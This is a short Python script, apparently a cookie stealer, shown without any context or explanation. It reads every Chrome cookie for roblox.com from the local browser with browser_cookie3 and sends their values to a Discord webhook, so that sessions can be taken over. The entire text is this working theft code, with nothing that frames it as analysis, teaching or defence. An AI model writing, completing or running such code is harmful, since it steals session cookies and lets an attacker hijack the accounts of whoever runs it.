import browser_cookie3, requests
cj = browser_cookie3.chrome(domain_name="roblox.com")
requests.post("https://discord.com/api/webhooks/9/zz", json={"content": str([c.value for c in cj])})
